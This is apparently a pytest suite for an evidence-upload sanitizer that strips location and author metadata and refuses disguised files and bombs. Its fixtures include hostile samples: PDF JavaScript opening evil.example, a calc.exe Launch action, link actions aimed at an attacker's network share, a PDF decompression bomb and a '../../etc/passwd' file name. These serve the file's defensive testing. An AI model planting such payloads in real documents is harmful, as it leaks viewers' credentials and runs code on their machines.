"""Evidence files: type from the bytes, metadata stripped, bombs and fakes refused, PDF scripts found."""

import io

import pytest
from PIL import Image

from tests.tipline import images
from tipline.evidence.files import (
    EvidenceRejected,
    accept_upload,
    clean_upload,
    declared_pixels,
    display_name,
    download_name,
    make_thumbnail,
    read_limited,
    sniff,
)
from tipline.evidence.pdf import PdfUnreadable, pdf_active_content

MAX_PIXELS = 40_000_000


@pytest.mark.parametrize("fmt", ["JPEG", "WEBP", "PNG"])
def test_photo_loses_location_and_device_metadata(fmt):
    clean = clean_upload(images.photo_with_gps(fmt), f"photo.{fmt.lower()}", MAX_PIXELS)
    assert clean.kind == "image"
    stored = Image.open(io.BytesIO(clean.data))
    exif = stored.getexif()
    assert not exif.get_ifd(images.GPS_IFD)
    assert 0x010F not in exif and 0x0110 not in exif
    assert b"TestCam" not in clean.data
    assert stored.size == (64, 48)


def test_type_comes_from_bytes_not_name():
    clean = clean_upload(images.PDF, "holiday.jpg", MAX_PIXELS)
    assert clean.mime_type == "application/pdf" and clean.kind == "pdf"
    with pytest.raises(EvidenceRejected):
        clean_upload(b"MZ\x90\x00 this is a windows program", "report.pdf", MAX_PIXELS)
    with pytest.raises(EvidenceRejected):
        clean_upload(b"<html><script>alert(1)</script></html>", "page.png", MAX_PIXELS)


def test_video_is_accepted_by_content():
    assert sniff(images.MP4) == "video/mp4"
    assert clean_upload(images.MP4, "lesson.mp4", MAX_PIXELS).kind == "video"


def test_decompression_bomb_is_refused_before_decoding():
    with pytest.raises(EvidenceRejected) as caught:
        clean_upload(images.decompression_bomb(), "bomb.png", MAX_PIXELS)
    assert "too large" in str(caught.value.message)


def test_truncated_image_is_refused():
    data = images.photo_with_gps()[:200]
    with pytest.raises(EvidenceRejected):
        clean_upload(data, "broken.jpg", MAX_PIXELS)


def test_empty_file_is_refused():
    with pytest.raises(EvidenceRejected):
        clean_upload(b"", "empty.jpg", MAX_PIXELS)


def test_read_limited_stops_at_the_limit():
    assert read_limited(io.BytesIO(b"x" * 10), 10) == b"x" * 10
    assert read_limited(io.BytesIO(b"x" * 11), 10) is None


def test_display_name_is_harmless():
    assert display_name("../../etc/passwd") == "passwd"
    assert display_name("C:\\Users\\me\\证据.jpg") == "证据.jpg"
    assert display_name("a\x00b\u202e.jpg") == "ab.jpg"
    assert display_name("") == "file"


def test_pdf_active_content_is_found():
    assert pdf_active_content(images.PDF) == []
    assert {"JavaScript", "JS", "OpenAction"} <= set(pdf_active_content(images.pdf(script="app.alert(1)")))


def test_pdf_script_in_a_compressed_object_stream_is_found():
    """Bug caught: a byte search for /JS misses names packed into compressed object streams."""
    hidden = images.pdf(script="app.launchURL('https://evil.example')", object_streams=True)
    assert b"/JS" not in hidden and b"JavaScript" not in hidden  # invisible to a byte search
    assert {"JavaScript", "JS", "OpenAction"} <= set(pdf_active_content(hidden))
    assert pdf_active_content(images.pdf(object_streams=True)) == []


def test_pdf_actions_in_name_trees_and_pages_are_found():
    import pikepdf

    document = pikepdf.open(io.BytesIO(images.PDF))
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    document.pages[0].obj.AA = pikepdf.Dictionary(O=launch)
    out = io.BytesIO()
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert {"AA", "JS", "JavaScript", "Launch"} <= set(pdf_active_content(out.getvalue()))


def test_opening_at_a_page_is_not_active_content():
    import pikepdf

    document = pikepdf.open(io.BytesIO(images.PDF))
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
    out = io.BytesIO()
    document.save(out)
    assert pdf_active_content(out.getvalue()) == []


def test_unreadable_pdf_is_reported_as_such():
    with pytest.raises(PdfUnreadable):
        pdf_active_content(images.BROKEN_PDF)


def test_pdf_loses_author_and_xmp_but_keeps_its_pages():
    import pikepdf

    source = images.pdf(author="Wang Xiaoming", xmp_creator="Li Hua")
    assert b"Wang Xiaoming" in source and b"Li Hua" in source
    clean = clean_upload(source, "report.pdf", MAX_PIXELS)
    assert b"Wang Xiaoming" not in clean.data and b"Li Hua" not in clean.data
    assert not clean.metadata_kept
    stored = pikepdf.open(io.BytesIO(clean.data))
    assert len(stored.pages) == 1 and "/Metadata" not in stored.Root


@pytest.mark.parametrize("container", ["mp4", "mov"])
def test_video_loses_location_and_artist(container):
    clean = clean_upload(images.video_with_location(container), f"clip.{container}", MAX_PIXELS)
    assert images.LOCATION.encode() not in clean.data and b"Wang Xiaoming" not in clean.data
    assert b"\xa9xyz" not in clean.data and not clean.metadata_kept
    assert images.is_playable_video(clean.data)


def test_video_cover_picture_and_its_exif_are_dropped():
    """Bug caught: copying every video stream kept an attached cover JPEG with its camera and GPS EXIF."""
    clean = clean_upload(images.video_with_cover(), "clip.mp4", MAX_PIXELS)
    assert b"TestCam" not in clean.data and not clean.metadata_kept
    assert images.is_playable_video(clean.data)


def test_broken_pdf_and_video_are_kept_as_sent_and_marked():
    for data, name in ((images.BROKEN_PDF, "broken.pdf"), (images.MP4, "broken.mp4")):
        clean = clean_upload(data, name, MAX_PIXELS)
        assert clean.data == data and clean.metadata_kept, name


def test_accepting_reads_headers_only_and_keeps_the_upload_raw():
    accepted = accept_upload(images.photo_with_gps(), "photo.jpg", MAX_PIXELS)
    assert accepted.raw and accepted.data == images.photo_with_gps() and accepted.sha256 == ""
    assert accepted.pixels == 64 * 48 and accepted.kind == "image"
    with pytest.raises(EvidenceRejected):
        accept_upload(images.decompression_bomb(), "bomb.png", MAX_PIXELS)
    with pytest.raises(EvidenceRejected):
        accept_upload(b"<html></html>", "x.png", MAX_PIXELS)


def test_declared_pixels_come_from_the_header_and_count_frames():
    assert declared_pixels(images.png_image((300, 200)), MAX_PIXELS) == 60_000
    assert declared_pixels(images.PDF, MAX_PIXELS) == 0
    frames = [Image.new("RGB", (20, 10), (40 * i, 0, 0)) for i in range(5)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    assert declared_pixels(out.getvalue(), MAX_PIXELS) == 5 * 200
    with pytest.raises(EvidenceRejected) as caught:
        declared_pixels(out.getvalue(), 1000)  # an animation may use half the limit
    assert "frames" in str(caught.value.message)


@pytest.mark.parametrize(
    "mime, name",
    [("application/pdf", "evidence-9.pdf"), ("image/jpeg", "evidence-9.jpg"), ("video/quicktime", "evidence-9.mov")],
)
def test_download_name_comes_from_the_detected_type(mime, name):
    assert download_name(9, mime) == name


def test_thumbnail_is_small():
    thumb = make_thumbnail(images.png_image((1200, 800)))
    assert max(Image.open(io.BytesIO(thumb)).size) <= 320
    assert make_thumbnail(b"not an image") is None


def test_multi_picture_jpeg_keeps_its_first_picture():
    out = io.BytesIO()
    first = Image.new("RGB", (40, 30), (255, 0, 0))
    first.save(out, "MPO", save_all=True, append_images=[Image.new("RGB", (40, 30), (0, 0, 255))])
    clean = clean_upload(out.getvalue(), "phone.jpg", MAX_PIXELS)
    stored = Image.open(io.BytesIO(clean.data))
    assert stored.format == "JPEG" and stored.size == (40, 30)
    assert getattr(stored, "n_frames", 1) == 1


def test_animated_gif_keeps_frames_without_metadata():
    frames = [Image.new("RGB", (16, 16), (50 * i, 0, 0)) for i in range(5)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=b"shot at 39.9N 116.4E")
    clean = clean_upload(out.getvalue(), "ad.gif", MAX_PIXELS)
    stored = Image.open(io.BytesIO(clean.data))
    assert stored.n_frames == 5 and b"39.9N" not in clean.data


def test_animation_with_too_many_frames_is_refused_quickly():
    frames = [Image.new("RGB", (1, 1), (255 * (i % 2), 0, 0)) for i in range(1000)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    with pytest.raises(EvidenceRejected) as caught:
        clean_upload(out.getvalue(), "many.gif", MAX_PIXELS)
    assert "frames" in str(caught.value.message)


@pytest.mark.parametrize("seed", range(40))
def test_mangled_images_never_crash(seed):
    import random

    rng = random.Random(seed)
    source = bytearray(images.photo_with_gps() if seed % 2 else images.png_image((24, 24)))
    for _ in range(rng.randint(1, 20)):
        source[rng.randrange(16, len(source))] = rng.randrange(256)
    try:
        clean = clean_upload(bytes(source), "x", MAX_PIXELS)
    except EvidenceRejected as refused:
        assert refused.message  # refused with a reason for the reporter, not a crash
    else:
        # Accepted: then it is a readable image with no location left in it.
        stored = Image.open(io.BytesIO(clean.data))
        assert clean.kind == "image" and not stored.getexif().get_ifd(images.GPS_IFD)


def _pdf_with_photo_and_comment():
    """A PDF as phone scanner apps make it: the camera JPEG (with GPS and owner) embedded as is, and a comment."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(64, 48))
    photo = pikepdf.Stream(
        pdf,
        images.photo_with_gps(),
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=64,
        Height=48,
        ColorSpace=pikepdf.Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=pikepdf.Name.DCTDecode,
    )
    page = pdf.pages[0]
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))
    page.Contents = pdf.make_stream(b"q 64 0 0 48 0 0 cm /Im0 Do Q")
    comment = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Text,
        Rect=[0, 0, 10, 10],
        T=pikepdf.String("Zhang Wei (parent)"),
        Contents=pikepdf.String("see here"),
    )
    page.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(comment)]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_pdf_cleaning_reaches_embedded_photos_and_comment_authors():
    """Catches: PDF cleaning that drops only /Info and XMP, leaving the GPS and camera owner of an
    embedded photo and the names of comment authors while the file is said to be clean."""
    import pikepdf
    from PIL import Image

    from tipline.evidence.pdf import strip_pdf_metadata

    data = _pdf_with_photo_and_comment()
    cleaned = strip_pdf_metadata(data)
    assert cleaned is not None
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        page = pdf.pages[0]
        photo = Image.open(io.BytesIO(page.Resources.XObject.Im0.read_raw_bytes()))
        photo.load()  # still a picture
        assert not photo.getexif().get_ifd(images.GPS_IFD) and b"Exif" not in cleaned
        assert "/T" not in page.Annots[0] and str(page.Annots[0].Contents) == "see here"


def test_a_pdf_bomb_is_unreadable_not_clean_and_the_worker_survives():
    """Catches: parsing a small PDF whose object stream unpacks to hundreds of MB in the worker itself
    (no memory bound), or qpdf's skipped objects passing as a clean, harmless file."""
    import pikepdf

    from tipline.evidence.pdf import PdfUnreadable, strip_pdf_metadata

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.Junk = pdf.make_indirect(pikepdf.Dictionary(X=pikepdf.String(b" " * 200_000_000)))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    del pdf
    bomb = out.getvalue()
    assert len(bomb) < 1_000_000
    with pytest.raises(PdfUnreadable):
        pdf_active_content(bomb)
    assert strip_pdf_metadata(bomb) is None  # kept as sent and marked, never said to be clean


@pytest.mark.parametrize("action", ["GoToR", "SubmitForm", "ImportData"])
def test_click_actions_that_call_out_are_flagged(action):
    """Catches: link actions that open a network share (leaking the viewer's credentials) or send data
    away passing as harmless because they need a click."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=pikepdf.Name("/" + action), F=pikepdf.String("\\\\\\\\attacker\\\\share\\\\x.pdf")),
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    out = io.BytesIO()
    pdf.save(out)
    assert action in pdf_active_content(out.getvalue())
